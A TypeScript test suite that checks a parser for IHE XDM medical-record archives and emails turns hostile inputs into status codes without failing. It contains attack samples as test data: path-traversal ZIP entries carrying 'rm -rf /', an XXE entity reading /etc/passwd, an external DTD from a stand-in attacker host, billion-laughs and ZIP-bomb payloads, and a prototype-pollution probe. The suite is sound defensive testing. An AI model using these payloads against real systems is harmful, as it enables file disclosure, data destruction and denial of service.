// Hostile XDM archives are normal input: every one below gets a status code, quickly, without an
// exception and without anything written anywhere (the core has no file-system access at all:
// eslint forbids node:* imports in src/core).
import { describe, expect, it } from "vitest";
import fc from "fast-check";
import { strToU8, zipSync } from "fflate";
import { readXdmMessage, readXdmZip, DEFAULT_XDM_ZIP_LIMITS, MAX_METADATA_BYTES } from "../../src/core/xdm/index.ts";
import { cda, JEANNE, makeEml, makeXdm, metadataXml, PAUL, xdmEntries } from "../fixtures/xdm/make-xdm.ts";

const META = "IHE_XDM/SUBSET01/METADATA.XML";

/** Central-directory and local-header offsets of the entry `name` (for patching fields). */
function locate(zip: Uint8Array, name: string): { central: number; local: number } {
  const v = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  let eocd = zip.length - 22;
  while (v.getUint32(eocd, true) !== 0x06054b50) eocd--;
  let p = v.getUint32(eocd + 16, true);
  for (let i = 0; i < v.getUint16(eocd + 10, true); i++) {
    const n = v.getUint16(p + 28, true);
    if (new TextDecoder().decode(zip.subarray(p + 46, p + 46 + n)) === name) return { central: p, local: v.getUint32(p + 42, true) };
    p += 46 + n + v.getUint16(p + 30, true) + v.getUint16(p + 32, true);
  }
  throw new Error(`no ${name}`);
}

function patched(name: string, patch: (v: DataView, at: { central: number; local: number }) => void): Uint8Array {
  const zip = makeXdm();
  patch(new DataView(zip.buffer), locate(zip, name));
  return zip;
}

const withMetadata = (metadata: string | Uint8Array) => makeXdm({ metadata });

async function timed<T>(f: () => Promise<T>): Promise<{ value: T; ms: number }> {
  const t = performance.now();
  const value = await f();
  return { value, ms: performance.now() - t };
}

describe("hostile ZIPs", () => {
  it.each([
    ["../../evil.sh", "path traversal"],
    ["IHE_XDM/SUBSET01/../../../evil.sh", "traversal inside the tree"],
    ["/etc/cron.d/evil", "absolute path"],
    ["C:\\Windows\\evil.exe", "drive letter"],
    ["IHE_XDM/\u001b[2Jevil", "terminal escape"],
  ])("%s (%s) → zip-unsafe-path, nothing read", async (name) => {
    const r = await readXdmZip(makeXdm({ extra: { [name]: strToU8("#!/bin/sh\nrm -rf /\n") } }));
    expect(r).toMatchObject({ found: true, status: "zip-unsafe-path", documents: [], patient: null });
  });

  it.each([
    ["IHE_XDM/SUBSET01/DOC0001.XML", "the same name twice"],
    ["IHE_XDM/SUBSET01/doc0001.xml", "the same name but for case"],
    ["IHE_XDM\\SUBSET01\\DOC0001.XML", "the same path with backslashes"],
  ])("a second %s (%s), another patient's CDA → zip-corrupt: the document checked would not be the one an extraction keeps", async (name) => {
    const entries = xdmEntries();
    // Written under a stand-in name of the same length, renamed in the bytes (fflate keys entries by name).
    const standIn = `${name.slice(0, -1)}#`;
    entries[standIn] = strToU8(cda("11502-2", "CR", PAUL));
    const zip = Buffer.from(zipSync(entries, { level: 6 }));
    const renamed = new Uint8Array(Buffer.from(zip.toString("latin1").replaceAll(standIn, name), "latin1"));
    const r = await readXdmZip(renamed);
    expect(r).toMatchObject({ found: true, status: "zip-corrupt", documents: [], patient: null });
    expect(r.statusMessage).toContain("deux fichiers");
  });

  it("a DEFLATE bomb (20 MiB of zeros as a document) → zip-bomb before inflating", async () => {
    const zip = makeXdm({ extra: {}, documents: undefined });
    const bomb = zipSync({ ...xdmEntries(), "IHE_XDM/SUBSET01/DOC0001.XML": new Uint8Array(20 * 1024 * 1024) }, { level: 9 });
    expect(zip.length).toBeGreaterThan(0);
    const { value, ms } = await timed(() => readXdmZip(bomb));
    expect(value.status).toBe("zip-bomb");
    expect(ms).toBeLessThan(2000);
  });

  it("a bomb whose directory declares a small size is stopped at the first push → zip-corrupt", async () => {
    const bomb = zipSync({ ...xdmEntries(), "IHE_XDM/SUBSET01/DOC0001.XML": new Uint8Array(20 * 1024 * 1024) }, { level: 9 });
    const { central } = locate(bomb, "IHE_XDM/SUBSET01/DOC0001.XML");
    new DataView(bomb.buffer).setUint32(central + 24, 752, true);
    const r = await readXdmZip(bomb);
    // The document alone is unreadable; the rest of the XDM is still shown.
    expect(r.status).toBe("ok");
    expect(r.problems.map((p) => p.code)).toContain("document-unreadable");
    expect(r.documents[0]).toMatchObject({ present: false, hashOk: false });
  });

  it("a total past maxTotalBytes → zip-too-large", async () => {
    const r = await readXdmZip(makeXdm(), { ...DEFAULT_XDM_ZIP_LIMITS, maxTotalBytes: 2000 });
    expect(r.status).toBe("zip-too-large");
  });

  it("an entry past maxEntryBytes → zip-too-large", async () => {
    expect((await readXdmZip(makeXdm(), { ...DEFAULT_XDM_ZIP_LIMITS, maxEntryBytes: 500 })).status).toBe("zip-too-large");
  });

  it("1,001 entries → zip-too-many-entries, without reading any", async () => {
    const extra = Object.fromEntries(Array.from({ length: 1001 }, (_, i) => [`IHE_XDM/SUBSET01/F${i}.TXT`, strToU8("x")]));
    expect((await readXdmZip(makeXdm({ extra }))).status).toBe("zip-too-many-entries");
  });

  it("an encrypted METADATA.XML → zip-encrypted", async () => {
    const zip = patched(META, (v, at) => {
      v.setUint16(at.central + 8, v.getUint16(at.central + 8, true) | 1, true);
      v.setUint16(at.local + 6, v.getUint16(at.local + 6, true) | 1, true);
    });
    expect((await readXdmZip(zip)).status).toBe("zip-encrypted");
  });

  it("an encrypted document → zip-encrypted for the whole XDM (nothing in it can be trusted)", async () => {
    const zip = patched("IHE_XDM/SUBSET01/DOC0002.PDF", (v, at) => v.setUint16(at.central + 8, 1, true));
    expect((await readXdmZip(zip)).status).toBe("zip-encrypted");
  });

  it("an unknown compression method → zip-unsupported-method", async () => {
    expect((await readXdmZip(patched(META, (v, at) => v.setUint16(at.central + 10, 14, true)))).status).toBe("zip-unsupported-method");
  });

  it("a local name other than the directory's → zip-corrupt", async () => {
    expect((await readXdmZip(patched(META, (v, at) => v.setUint8(at.local + 30, 0x58)))).status).toBe("zip-corrupt");
  });

  it("ZIP64 markers → zip64-unsupported; truncated → zip-corrupt; not a ZIP → not-zip", async () => {
    const zip = makeXdm();
    const z64 = zip.slice();
    new DataView(z64.buffer).setUint16(z64.length - 22 + 10, 0xffff, true);
    expect((await readXdmZip(z64)).status).toBe("zip64-unsupported");
    expect((await readXdmZip(zip.subarray(0, zip.length - 30))).status).toBe("zip-corrupt");
    expect((await readXdmZip(strToU8("<html>pas un zip</html>"))).status).toBe("not-zip");
    expect((await readXdmZip(new Uint8Array(0))).status).toBe("not-zip");
  });

  it("a document whose CRC is wrong → document-unreadable, the XDM still read", async () => {
    const r = await readXdmZip(patched("IHE_XDM/SUBSET01/DOC0002.PDF", (v, at) => v.setUint32(at.central + 16, 1234, true)));
    expect(r.status).toBe("ok");
    expect(r.problems.map((p) => p.code)).toEqual(["document-unreadable"]);
  });
});

describe("hostile METADATA.XML", () => {
  const laughs =
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">' +
    Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ""};`.repeat(10)}">`).join("") +
    "]>\n<lcm:SubmitObjectsRequest xmlns:lcm=\"urn:oasis:names:tc:ebxml-regrep:xsd:lcm:3.0\">&lol9;</lcm:SubmitObjectsRequest>";

  it("billion laughs → xml-doctype, fast", async () => {
    const { value, ms } = await timed(() => readXdmZip(withMetadata(laughs)));
    expect(value.status).toBe("xml-doctype");
    expect(ms).toBeLessThan(1000);
  });

  it("an external entity (XXE) → xml-doctype", async () => {
    const xxe = metadataXml().replace("?>\n", '?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n').replace("Résultats de biologie", "&xxe;");
    expect((await readXdmZip(withMetadata(xxe))).status).toBe("xml-doctype");
  });

  it("a parameter entity or a bare DOCTYPE in lower case → xml-doctype", async () => {
    expect((await readXdmZip(withMetadata('<!doctype r SYSTEM "http://attaquant.example/x.dtd"><r/>'))).status).toBe("xml-doctype");
    expect((await readXdmZip(withMetadata('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://x/">%p;]><r/>'))).status).toBe("xml-doctype");
  });

  it("an undeclared entity reference is never expanded", async () => {
    const r = await readXdmZip(withMetadata(metadataXml().replace("Résultats de biologie", "&xxe; &amp; &#233;")));
    if (r.status === "ok") expect(r.submission?.title).toBe("&xxe; & é");
    else expect(r.status).toBe("xml-malformed");
  });

  it.each([
    ["<lcm:SubmitObjectsRequest><unclosed></lcm:SubmitObjectsRequest>", "xml-malformed"],
    ["pas du XML du tout", "xml-malformed"],
    ["<a><b></a></b>", "xml-malformed"],
    ["<a>\u0000</a>", "xml-malformed"],
    ['<?xml version="1.0"?><html><body/></html>', "metadata-not-ebrim"],
    ['<SubmitObjectsRequest xmlns="urn:oasis:names:tc:ebxml-regrep:xsd:lcm:3.0"/>', "metadata-not-ebrim"],
  ])("%j → %s", async (xml, status) => {
    expect((await readXdmZip(withMetadata(xml))).status).toBe(status);
  });

  it("invalid UTF-8 → xml-malformed", async () => {
    expect((await readXdmZip(withMetadata(new Uint8Array([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e])))).status).toBe("xml-malformed");
  });

  it("no METADATA.XML → metadata-missing", async () => {
    expect(await readXdmZip(makeXdm({ withoutMetadata: true }))).toMatchObject({ found: true, status: "metadata-missing" });
    expect((await readXdmZip(zipSync({ "README.TXT": strToU8("x") }))).status).toBe("metadata-missing");
  });

  it("a huge METADATA.XML → metadata-too-large, refused by its declared size", async () => {
    const big = metadataXml().replace("</rim:RegistryObjectList>", `<!--${"x".repeat(MAX_METADATA_BYTES)}--></rim:RegistryObjectList>`);
    const { value, ms } = await timed(() => readXdmZip(withMetadata(big)));
    expect(value.status).toBe("metadata-too-large");
    expect(ms).toBeLessThan(2000);
  });

  it("100,000 nested elements → xml-too-deep, no stack overflow", async () => {
    const deep = `<lcm:SubmitObjectsRequest>${"<a>".repeat(100_000)}${"</a>".repeat(100_000)}</lcm:SubmitObjectsRequest>`;
    const { value, ms } = await timed(() => readXdmZip(withMetadata(deep)));
    expect(value.status).toBe("xml-too-deep");
    expect(ms).toBeLessThan(2000);
  });

  it("a large but legitimate METADATA.XML (just under the cap) is read in linear time", async () => {
    // Values that do not compress: a repetitive filler would be refused as a bomb (rightly).
    let seed = 14;
    const hex = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31).toString(16).padStart(8, "0");
    const slots: string[] = [];
    for (let size = 0; size < MAX_METADATA_BYTES - 20_000; ) {
      const slot = `<rim:Slot name="x${hex()}"><rim:ValueList><rim:Value>${hex()}${hex()}</rim:Value></rim:ValueList></rim:Slot>`;
      slots.push(slot);
      size += slot.length;
    }
    const filler = slots.join("");
    const xml = metadataXml().replace('<rim:ExtrinsicObject id="urn:uuid:doc-1"', `<rim:ExtrinsicObject id="urn:uuid:doc-1"`).replace("</rim:ExtrinsicObject>", `${filler}</rim:ExtrinsicObject>`);
    const { value, ms } = await timed(() => readXdmZip(withMetadata(xml)));
    expect(value.status).toBe("ok");
    expect(value.patient?.lastName).toBe(JEANNE.lastName);
    expect(ms).toBeLessThan(10_000);
  });

  it("tag names like __proto__ do not pollute objects", async () => {
    const r = await readXdmZip(withMetadata(metadataXml().replace("</rim:RegistryObjectList>", "<__proto__><polluted>1</polluted></__proto__><constructor/></rim:RegistryObjectList>")));
    expect(["ok", "xml-malformed"]).toContain(r.status);
    expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined();
  });
});

describe("hostile messages", () => {
  it("an attachment that is not valid base64 → attachment-undecodable", async () => {
    const eml = new TextDecoder().decode(makeEml());
    const broken = eml.replace(/(filename="IHE_XDM\.ZIP"\r\n\r\n)UEsD/, "$1!!!!");
    expect((await readXdmMessage(new TextEncoder().encode(broken))).status).toBe("attachment-undecodable");
  });

  it("an IHE_XDM.ZIP that is a bomb is refused inside a message as well", async () => {
    const bomb = zipSync({ ...xdmEntries(), "IHE_XDM/SUBSET01/DOC0001.XML": new Uint8Array(20 * 1024 * 1024) }, { level: 9 });
    expect(await readXdmMessage(makeEml({ zip: bomb }))).toMatchObject({ found: true, status: "zip-bomb" });
  });

  it("two IHE_XDM.ZIP attachments: several-xdm-attachments", async () => {
    const eml = new TextDecoder().decode(makeEml());
    const part = /--mix\r\nContent-Type: application\/zip[\s\S]*?(?=--mix--)/.exec(eml)![0];
    const doubled = eml.replace("--mix--", `${part}--mix--`);
    expect((await readXdmMessage(new TextEncoder().encode(doubled))).problems.map((p) => p.code)).toContain("several-xdm-attachments");
  });
});

describe("properties (fixed seed, bounded runs)", () => {
  const good = makeXdm();
  const goodEml = makeEml();
  const xml = metadataXml();
  const STATUSES = new Set(["ok", "not-found", "attachment-undecodable", "not-zip", "zip-corrupt", "zip64-unsupported", "zip-too-many-entries", "zip-unsafe-path", "zip-encrypted", "zip-unsupported-method", "zip-too-large", "zip-bomb", "metadata-missing", "metadata-too-large", "xml-doctype", "xml-too-deep", "xml-malformed", "metadata-not-ebrim"]);
  const check = (r: { status: string }, ms: number) => {
    expect(STATUSES.has(r.status)).toBe(true);
    expect(ms).toBeLessThan(2000);
  };

  it("arbitrary bytes, as a ZIP and as a message, never throw", async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 4096 }), async (bytes) => {
        const a = await timed(() => readXdmZip(bytes));
        check(a.value, a.ms);
        const b = await timed(() => readXdmMessage(bytes));
        check(b.value, b.ms);
      }),
      { seed: 14, numRuns: 200 },
    );
  });

  it("a real XDM with bytes overwritten anywhere never throws", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.nat({ max: good.length - 1 }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }), async (edits) => {
        const z = good.slice();
        for (const [at, b] of edits) z[at] = b;
        const r = await timed(() => readXdmZip(z));
        check(r.value, r.ms);
      }),
      { seed: 1414, numRuns: 300 },
    );
  });

  it("METADATA.XML with text spliced in anywhere never throws", async () => {
    const pieces = fc.oneof(fc.string({ maxLength: 20 }), fc.constantFrom("<", ">", "</rim:Slot>", "<!DOCTYPE x>", "&amp;", "&#xFFFFFF;", "<![CDATA[", "-->", '"', "<rim:Value>", "\u0000"));
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.nat({ max: xml.length }), fc.nat({ max: 40 }), pieces), { minLength: 1, maxLength: 5 }), async (edits) => {
        let s = xml;
        for (const [at, del, ins] of edits) s = s.slice(0, at) + ins + s.slice(Math.min(s.length, at + del));
        const r = await timed(() => readXdmZip(withMetadata(s)));
        check(r.value, r.ms);
      }),
      { seed: 2014, numRuns: 200 },
    );
  });

  it("a real message with bytes overwritten never throws", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.nat({ max: goodEml.length - 1 }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 8 }), async (edits) => {
        const m = goodEml.slice();
        for (const [at, b] of edits) m[at] = b;
        const r = await timed(() => readXdmMessage(m));
        check(r.value, r.ms);
      }),
      { seed: 41, numRuns: 150 },
    );
  });
});
